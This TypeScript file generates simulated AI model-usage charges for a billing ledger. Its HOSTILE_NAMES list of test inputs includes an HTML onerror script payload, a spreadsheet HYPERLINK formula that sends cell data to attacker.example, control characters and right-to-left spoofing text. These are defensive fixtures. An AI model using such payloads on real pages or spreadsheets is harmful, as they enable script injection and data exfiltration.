import type { KeyIds, Pace } from "./account-plan.ts";
import type { Movement } from "./ledger.ts";
import { usdToCredits } from "./money.ts";
import type { Random } from "./random.ts";

/** A charge on its way into the ledger. */
export interface Charge {
  readonly movement: Movement;
  /** When it stands in the ledger: at its own time or later. */
  readonly landsAt: number;
  readonly copies: 1 | 2;
}

/** Shares of the calls, and prices relative to the mean. The products of both add up to 1. */
const MODELS = [
  { name: "openai/gpt-5", share: 0.25, price: 1.6 },
  { name: "anthropic/claude-sonnet-4.5", share: 0.15, price: 2 },
  { name: "google/gemini-2.5-flash", share: 0.3, price: 0.3 },
  { name: "deepseek/deepseek-chat", share: 0.15, price: 0.3 },
  { name: "openai/gpt-5-mini", share: 0.095, price: 0.4 },
  { name: "flux/dev", share: 0.05, price: 2.5 },
  // The vendor does not always know which model it was.
  { name: null, share: 0.005, price: 0.4 },
] as const;

/** In place of each usual name: markup, a formula, line breaks and control characters, other writing directions, sheer length. */
const HOSTILE_NAMES = [
  `<img src=x onerror="document.title='owned'">`,
  `=HYPERLINK("https://attacker.example/?"&A1,"openai/gpt-5")`,
  "line\nbreak\ttab\u0000nul\u001b[31mred\u009b1m",
  "\u202Egnp.exe/iaenpo\u202C \u2066isolate\u200Bzero\uFEFFwidth",
  `x${"y".repeat(10_000)}`,
  `"quotes", commas; and 'more' \\ \ud83d\ude00 \u05e9\u05dc\u05d5\u05dd`,
  "__proto__",
] as const;

/** The chance of a charge to be the first key's. */
const FIRST_KEY_SHARE = 0.7;

/** The next charge after a moment. Depends on that moment and on chance only, never on who looks when. */
export function drawCharge(pace: Pace, random: Random, after: number, [first, second]: KeyIds): Charge {
  let at = after;
  do at += Math.max(1, Math.round(random.exponential(pace.meanIntervalMs)));
  while (pace.rhythm === "office" && random.next() > officeActivity(at));
  const model = drawModel(random.next());
  const movement: Movement = {
    at,
    direction: "CHARGE",
    type: "MODEL_USAGE",
    credits: Math.max(1, usdToCredits(random.exponential(pace.meanUsd * model.price))),
    model: pace.models === "hostile" ? (HOSTILE_NAMES[MODELS.indexOf(model)] ?? null) : model.name,
    referenceId: random.token(21),
    keyId: random.next() < FIRST_KEY_SHARE ? first : second,
  };
  const isLate = pace.late !== undefined && random.next() < pace.late.share;
  const delayMs = isLate ? Math.round(random.exponential(pace.late.meanMs)) : 0;
  const copies = pace.twins !== undefined && random.next() < pace.twins ? 2 : 1;
  return { movement, landsAt: at + delayMs, copies };
}

function drawModel(chance: number): (typeof MODELS)[number] {
  let passed = 0;
  return MODELS.find(({ share }) => (passed += share) > chance) ?? MODELS[0];
}

/** How busy the hour is, from 0 to 1. */
function officeActivity(at: number): number {
  const date = new Date(at);
  const hour = date.getUTCHours();
  const busy = hour >= 8 && hour < 19 ? 1 : hour >= 19 && hour < 23 ? 0.3 : 0.03;
  return date.getUTCDay() % 6 === 0 ? busy * 0.25 : busy;
}
